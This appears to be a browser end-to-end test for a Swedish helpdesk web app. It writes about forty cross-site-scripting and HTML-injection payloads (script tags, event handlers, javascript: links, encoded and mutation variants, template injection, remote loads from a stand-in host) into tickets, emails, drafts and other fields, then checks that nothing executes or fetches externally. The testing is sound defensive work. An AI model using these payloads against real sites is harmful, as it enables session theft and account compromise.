// What attackers write into every field that takes words, and into a mail of their own: read on every page by both sides, it runs
// nothing and fetches nothing from anywhere else (A18, A19, A20).
import { baseUrl, eventually, expect, journey, logIn, openPage } from "./browser.mjs";
import { sendMail } from "./smtp.mjs";

const password = process.env.DEMO_PASSWORD ?? "skranke-demo-2026";
const mark = `spår${Date.now().toString(36)}`;
const hit = "window.__hit=1";
const away = "http://far-away.example";
const payloads = [
  `<script>${hit}</script>`,
  `"><script src=${away}/x.js></script>`,
  `<img src=x onerror="${hit}">`,
  `<img src="${away}/pixel.gif">`,
  `<svg onload="${hit}">`,
  `<svg><script href="data:text/javascript,${hit}" /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}></style></mglyph></table></mtext></math>`,
  `<iframe srcdoc="<script>parent.${hit.slice(7)}</script>"></iframe>`,
  `<a href="javascript:${hit}">klicka</a>`,
  `<a href="jav&#x09;ascript:${hit}">klicka</a>`,
  `<a href="data:text/html,<script>${hit}</script>">klicka</a>`,
  `[klicka](javascript:${hit})`,
  `<style>@import "${away}/x.css"; body{background:url(${away}/bg)}</style>`,
  `<div style="background:url(${away}/d)">`,
  `<link rel=stylesheet href=${away}/l.css>`,
  `<base href="${away}/">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<form action=${away}><input name=password autofocus onfocus="${hit}"><button>Logga in</button></form>`,
  `<details open ontoggle="${hit}">`,
  `<video><source onerror="${hit}"></video>`,
  `<body onload="${hit}">`,
  `<input onfocus="${hit}" autofocus>`,
  `<object data="${away}/o.swf"></object>`,
  `<embed src="${away}/e.swf">`,
  `</textarea><script>${hit}</script>`,
  `</title><script>${hit}</script>`,
  `<!--<img src="--><img src=x onerror=${hit}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<template><script>${hit}</script></template>`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `&#0000060script&#0000062${hit}&#0000060/script&#0000062`,
  `\u003cscript\u003e${hit}\u003c/script\u003e`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `#{7*7} <%= 7*7 %> {{7*7}}`,
  `' onmouseover='${hit}' x='`,
  `" autofocus onfocus="${hit}" x="`,
  "`-alert(1)-`",
  `\u202e<gpj.exe>\u2066`,
  `<xss id=x tabindex=1 onactivate=${hit}></xss>`,
];

async function watch(page, found) {
  await page.addInitScript(() => Object.defineProperty(window, "__hit", { set: () => fetch("/__hit"), get: () => 0 }));
  page.on("dialog", (dialog) => {
    found.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = request.url();
    const own = url.startsWith(baseUrl) || url.startsWith("data:") || url.startsWith("blob:");
    if (!own || url.includes("__hit")) found.push(`a request: ${url.slice(0, 120)}`);
  });
}

async function caller(page) {
  const { csrf_token } = await (await page.request.get("/api/v1/session")).json();
  return async (method, path, data) => {
    const answer = await page.request.fetch(path, { method, data, headers: { "X-CSRF-Token": csrf_token } });
    if (!answer.ok()) throw new Error(`Expected: ${method} ${path} is taken, but ${answer.status()} ${await answer.text()}`);
    return answer.status() === 204 ? undefined : answer.json();
  };
}

// Into the editor by hand: as a paste brings it, whatever program it comes from.
async function pasteAll(page) {
  await page.keyboard.press("n");
  const field = page.getByRole("textbox", { name: "Anteckning" });
  await page.locator("[contenteditable=true]").waitFor();
  await field.evaluate((node, list) => {
    for (const html of list) {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/html", html);
      clipboardData.setData("text/plain", html);
      node.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
    }
  }, payloads);
  await page.keyboard.type(" sist");
  await page.getByRole("button", { name: "Spara anteckning" }).click();
  await page.getByRole("article").getByText("sist").first().waitFor();
}

// Everything on the page is opened and pointed at: what waits for a hand gets one.
async function handle(page) {
  for (const link of (await page.getByRole("link", { name: "klicka" }).all()).slice(0, 5)) await link.click({ trial: true });
  await page.mouse.move(400, 400);
  for (let i = 0; i < 6; i += 1) await page.keyboard.press("Tab");
}

function htmlMail() {
  return [
    "From: Kari Nord <kontakt@nordlys.example>",
    "To: support@dvnordic.example",
    `Subject: =?utf-8?B?${Buffer.from(`${mark} ${payloads[2]}`).toString("base64")}?=`,
    `Message-ID: <${Buffer.from(mark).toString("hex")}@nordlys.example>`,
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(`<p>${mark}</p>${payloads.join("<hr>")}`).toString("base64").replaceAll(/(.{76})/g, "$1\n"),
  ].join("\n");
}

await journey(async (browser) => {
  const found = [];
  const customer = await openPage(browser);
  const agent = await openPage(browser);
  for (const { page } of [customer, agent]) await watch(page, found);
  await logIn(customer.page, "kontakt@nordlys.example", password);
  await customer.page.getByRole("heading", { name: "DV Nordic" }).waitFor();
  await logIn(agent.page, "agent@dvnordic.example", password);
  await agent.page.getByRole("table").waitFor();
  const asCustomer = await caller(customer.page);
  const asAgent = await caller(agent.page);

  await sendMail({ from: "kontakt@nordlys.example", to: "support@dvnordic.example", raw: htmlMail() });
  const numbers = [];
  const drafts = [];
  for (let at = 0; at < payloads.length; at += 8) {
    const some = payloads.slice(at, at + 8);
    const { number } = await asCustomer("POST", "/api/v1/tickets", {
      subject: `${mark} ${some[0]}`, text: some.join("\n\n"), fields: [{ key: "offices", value: some[1] ?? "x" }],
    });
    await asAgent("POST", `/api/v1/tickets/${number}/notes`, { text: some.join("\n") });
    await asAgent("POST", `/api/v1/tickets/${number}/replies`, { text: some.join("\n") });
    const html = some.map((payload) => `<p>${mark}</p>${payload}`).join("");
    await asAgent("POST", `/api/v1/tickets/${number}/notes`, { html });
    const { id } = await asAgent("POST", `/api/v1/tickets/${number}/replies`, { html });
    // The composer opens with it.
    await asAgent("PUT", "/api/v1/drafts", { name: `${id}.reply`, html });
    drafts.push(`${id}.reply`);
    numbers.push(number);
  }
  for (const [at, payload] of payloads.slice(0, 5).entries()) {
    await asAgent("PUT", "/api/v1/saved-views", { name: `${at} ${payload}`.slice(0, 60), search: `q=${payload}` });
  }
  await asAgent("PUT", "/api/v1/drafts", { name: "new.text", text: payloads.join("\n") });
  const entry = await asAgent("POST", "/api/v1/knowledge", {
    kind: "disruption", begins_at: new Date(Date.now() - 60_000).toISOString(),
    texts: [{ language: "sv", title: payloads[2], body: payloads.join("\n") }],
  });
  const unit = { product: payloads[2], serial: `P-${Date.now()}`, customer: (await asCustomer("GET", "/api/v1/session")).person.customer.id };
  const none = { mac: "", family: payloads[0], type: payloads[4], order_number: payloads[8], invoice_number: payloads[1] };
  await asAgent("POST", "/api/v1/units", { ...unit, ...none });

  // The mail becomes a ticket too, a moment after it was taken.
  const ofMail = await eventually(async () => {
    const { tickets } = await asAgent("GET", `/api/v1/tickets?q=${encodeURIComponent(mark)}&limit=50`);
    return tickets.find(({ number }) => !numbers.includes(number));
  }, "the mail becomes a ticket too");
  const all = [...numbers, ofMail.number];
  for (const path of [`/tickets?q=${mark}`, "/tickets/new", "/knowledge", "/wallboard", "/outgoing", ...all.map((number) => `/tickets/${number}`)]) {
    await agent.page.goto(path);
    await agent.page.getByRole("heading").first().waitFor();
    if (path.startsWith("/tickets/D")) await agent.page.getByRole("article").first().waitFor();
    const shown = agent.page.getByRole("button", { name: "Visa som det skickades" });
    if (path.startsWith("/tickets/D") && (await shown.count()) > 0) await shown.first().click();
    await handle(agent.page);
  }
  await agent.page.goto(`/tickets/${numbers[0]}`);
  await agent.page.getByRole("article").first().waitFor();
  await pasteAll(agent.page);
  for (const path of ["/portal", "/portal?write=true", "/portal/order", "/portal/company", ...all.map((number) => `/portal/tickets/${number}`)]) {
    await customer.page.goto(path);
    await customer.page.getByRole("heading").first().waitFor();
    await handle(customer.page);
  }
  await agent.page.goto("/tickets/new");
  const begun = await agent.page.getByRole("textbox", { name: "Vad säger kunden?" }).inputValue();
  expect(begun.includes(payloads[2]), `what was begun elsewhere stands in its field, but there is "${begun}"`);
  const texts = entry.texts.map(({ language, title, body }) => ({ language, title, body }));
  await asAgent("PUT", `/api/v1/knowledge/${entry.id}`, {
    kind: entry.kind, begins_at: entry.begins_at, ends_at: new Date().toISOString(), texts, version: entry.version,
  });
  for (const view of (await asAgent("GET", "/api/v1/saved-views")).views) await asAgent("DELETE", `/api/v1/saved-views/${view.id}`);
  for (const name of ["new.text", ...drafts]) await asAgent("PUT", "/api/v1/drafts", { name, text: "" });
  expect(found.length === 0, `no script runs and nothing is fetched from elsewhere, but:\n${[...new Set(found)].slice(0, 10).join("\n")}`);
  console.log(`payloads: ${payloads.length} in every field on ${2 * all.length + 9} pages, 0 scripts, 0 outside requests`);
});
